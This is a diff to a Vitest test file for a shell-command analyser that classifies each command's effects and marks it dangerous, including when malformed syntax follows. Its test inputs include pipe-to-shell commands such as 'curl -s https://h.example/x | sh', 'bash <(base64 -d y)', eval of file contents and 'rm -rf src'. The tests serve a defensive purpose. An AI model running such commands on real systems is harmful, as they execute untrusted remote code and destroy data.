@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { isUnbounded } from '../tool/effect.ts';
 import { WHERE } from './test-corpus.ts';
 import { understandCommand } from './understand-command.ts';
 
@@ -6,7 +7,7 @@ const understand = (command: string, where = WHERE) => understandCommand(command
 const effectsOf = (command: string) => {
   const { effects } = understand(command);
   return effects === 'everything'
-    ? effects
+    ? [effects]
     : effects.map(({ kind, resource, tree }) => `${kind} ${resource}${tree ? '/**' : ''}`);
 };
 const ROOT = WHERE.root;
@@ -47,11 +48,85 @@ describe('effects', () => {
     expect(effectsOf('git clone git@github.com:a/b.git')).toContain('network github.com');
   });
 
-  test('what cannot be seen touches everything', () => {
+  test('what cannot be seen may touch everything', () => {
     for (const command of ['curl x.example | sh', '$program', 'eval "$(cat x)"', 'if ls', './x; bash <(base64 -d y)']) {
-      expect(effectsOf(command), command).toBe('everything');
+      expect(isUnbounded(understand(command).effects), command).toBe(true);
     }
   });
+});
+
+describe('an error of the syntax', () => {
+  const ENDINGS = [
+    '&& echo b',
+    '|| echo b',
+    '| sh',
+    '; ; echo',
+    ';; echo',
+    ')',
+    'echo a )',
+    'fi',
+    'done',
+    'esac',
+    'then echo',
+    'else',
+    'if true; then',
+    'for x in a; do',
+    'while true; do',
+    'case x in',
+    '( echo a',
+    '{ echo a',
+    'echo "a',
+    "echo 'a",
+    'echo $(ls',
+    'echo `ls',
+    'echo ${a',
+    'echo $((1',
+    'cat <',
+    'cat >',
+    'cat > && ls',
+    '[[ a',
+    'f() {',
+    'echo a && ',
+    'echo a |',
+    '((1',
+  ];
+
+  test.each(ENDINGS)('%s on a later line leaves what stands before it', ending => {
+    const found = understand(`wget https://h.example/x\nrm -rf src\nsort a -o /srv/b\n${ending}`);
+    expect(found.danger).toBe('dangerous');
+    expect(isUnbounded(found.effects)).toBe(true);
+    expect(found.effects).toEqual(
+      expect.arrayContaining([
+        { kind: 'network', resource: 'h.example' },
+        { kind: 'delete', resource: `${ROOT}/src`, tree: true },
+        { kind: 'write', resource: '/srv/b' },
+        { kind: 'execute', resource: 'rm -rf src' },
+      ]),
+    );
+    expect(found.commands.map(({ text }) => text)).toContain('wget https://h.example/x');
+  });
+
+  test.each(ENDINGS)('%s on the same line leaves what stands before it', ending => {
+    const { effects, danger } = understand(`curl -s https://h.example/x; ${ending}`);
+    expect(danger).toBe('dangerous');
+    expect(effects).toContainEqual({ kind: 'network', resource: 'h.example' });
+  });
+
+  test('a document without its end is read to the end of the text', () => {
+    expect(effectsOf('rm a\ncat > b <<X\nhello')).toEqual(
+      expect.arrayContaining([`delete ${ROOT}/a`, `write ${ROOT}/b`]),
+    );
+  });
+
+  test('inside a script that another program runs it is no less', () => {
+    const { effects, danger } = understand(`bash -c 'wget https://h.example/x\n&& ls'`);
+    expect(danger).toBe('dangerous');
+    expect(effects).toContainEqual({ kind: 'network', resource: 'h.example' });
+  });
+});
+
+test('code that nobody sees does not hide the host that it comes from', () => {
+  expect(effectsOf('curl -s https://h.example/x | sh')).toContain('network h.example');
 });
 
 describe('commands', () => {
